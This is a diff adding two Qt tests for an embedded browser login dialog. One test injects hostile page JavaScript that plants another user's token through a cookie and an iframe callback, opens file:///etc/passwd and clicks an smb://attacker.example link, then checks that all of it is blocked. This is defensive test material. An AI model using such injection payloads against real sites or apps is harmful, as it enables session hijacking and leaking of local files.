@@ -246,6 +246,88 @@ private slots:
         dialog->reject();
     }
 
+    void tokensInFramesAndCookiesAreNotTheLogin()
+    {
+        openWindow();
+        OpenedUrls opened;
+        for (const char *scheme : {"file", "smb", "ssh"})
+            QDesktopServices::setUrlHandler(QString::fromLatin1(scheme), &opened, "open");
+        const auto unset = qScopeGuard([] {
+            for (const char *scheme : {"file", "smb", "ssh"})
+                QDesktopServices::unsetUrlHandler(QString::fromLatin1(scheme));
+        });
+        QString problem;
+        BrowserLoginFactory *factory = BrowserLoginLoader::factory(&problem);
+        QVERIFY2(factory, qPrintable(problem));
+        EmbeddedLoginRequest request;
+        request.serverUrl = m_server->baseUrl();
+        request.providerKey = QStringLiteral("Meshery");
+        bool caught = false;
+        EmbeddedLoginCallbacks callbacks;
+        callbacks.tokenCaught = [&caught](const QByteArray &) { caught = true; };
+        std::unique_ptr<QDialog> dialog(factory->createLoginDialog(request, callbacks, m_window.get()));
+        dialog->show();
+        QWebEnginePage *page = pageOf(dialog.get());
+        QTRY_VERIFY_WITH_TIMEOUT(page->url().path() == QLatin1String("/provider-site/login"), 30000);
+
+        // The provider's page (or an ad in it) tries to hand over someone else's token: as a
+        // cookie for the server's host, through a frame that loads the server's callback, and
+        // opens a local file.
+        const QByteArray foreign = m_server->issueToken(QStringLiteral("mallory"));
+        const QString callback = m_server->baseUrl().toString() + QStringLiteral("/api/user/token?token=") + QString::fromLatin1(foreign);
+        page->runJavaScript(QStringLiteral("document.cookie = 'token=%1; path=/';"
+                                           "var f = document.createElement('iframe'); f.src = '%2'; document.body.appendChild(f);"
+                                           "window.open('file:///etc/passwd');"
+                                           "var a = document.createElement('a'); a.href = 'smb://attacker.example/share';"
+                                           "document.body.appendChild(a); a.click();")
+                                .arg(QString::fromLatin1(foreign), callback));
+        QTRY_VERIFY_WITH_TIMEOUT(m_server->requestCount(QStringLiteral("/api/user/token")) >= 1, 20000); // the frame went there
+        QTest::qWait(1000);
+        QVERIFY(!caught);
+        QVERIFY(opened.urls.isEmpty());
+        QCOMPARE(page->url().path(), QStringLiteral("/provider-site/login"));
+        QVERIFY(m_window->session()->token().isEmpty());
+    }
+
+    void aLoginIsKeptForTheProfileItStartedOn()
+    {
+        openWindow();
+        const ServerProfile startedOn = m_window->session()->profile();
+        QVERIFY(!startedOn.id.isEmpty());
+        // Time to move on while the caught token is being confirmed.
+        m_server->setFault(QStringLiteral("/api/token"), {MesheryTest::FaultKind::Delay, 3000});
+        m_window->loginController()->logIn(LoginController::Method::EmbeddedBrowser);
+        const QPointer<QDialog> dialog = GuiTest::waitForDialog<QDialog>("embeddedLoginDialog", 30000);
+        QVERIFY(dialog);
+        QWebEnginePage *page = pageOf(dialog);
+        QTRY_VERIFY_WITH_TIMEOUT(page->url().path() == QLatin1String("/provider-site/login"), 30000);
+        const auto formReady = std::make_shared<bool>(false);
+        QTRY_VERIFY_WITH_TIMEOUT((page->runJavaScript(QStringLiteral("document.getElementById('username') !== null"),
+                                                      [formReady](const QVariant &v) { *formReady = v.toBool(); }),
+                                  *formReady), 30000);
+        page->runJavaScript(QStringLiteral("document.getElementById('username').value = 'ada';"
+                                           "document.getElementById('password').value = 'meshery';"
+                                           "document.getElementById('submit').click();"));
+        QTRY_VERIFY_WITH_TIMEOUT(!dialog, 30000); // caught: the dialog is gone, the confirmation runs
+        QVERIFY(m_window->loginController()->isBusy());
+
+        MesheryTestServer other;
+        QVERIFY(other.start());
+        m_window->openServer(other.baseUrl().toString());
+        QCOMPARE(m_window->session()->profile().serverUrl, other.baseUrl());
+        QTRY_VERIFY_WITH_TIMEOUT(!m_window->loginController()->isBusy(), 30000);
+
+        // The other server's session got nothing; the token is the first profile's.
+        QVERIFY(m_window->session()->token().isEmpty());
+        QVERIFY(m_window->session()->state() != Session::State::SignedIn);
+        const SecretTool::Lookup kept = SecretTool::lookup(TokenVault::defaultService(), startedOn.tokenSlot().keychainKey());
+        QVERIFY(kept.found);
+        QVERIFY(m_server->isTokenValid(kept.value));
+        std::optional<VaultResult> removed;
+        m_window->vault()->removeProfile(startedOn.id, nullptr, [&removed](const VaultResult &r) { removed = r; });
+        QVERIFY(QTest::qWaitFor([&] { return removed.has_value(); }, 20000));
+    }
+
     void embeddedLoginHasATimeLimitAndRetry()
     {
         openWindow();
